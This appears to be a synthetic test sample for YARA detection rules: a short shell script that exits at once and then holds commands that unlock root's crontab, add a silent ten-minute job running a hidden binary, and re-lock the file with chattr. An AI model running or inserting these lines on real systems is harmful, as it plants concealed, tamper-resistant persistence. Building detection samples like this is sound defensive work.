#!/bin/sh
exit 0  # ferret YARA test sample: synthetic, never run
chattr -ia /var/spool/cron/root 2>/dev/null
echo "*/10 * * * * /root/.cache/.x/upd >/dev/null 2>&1" >> /var/spool/cron/root
chattr +ai /var/spool/cron/root
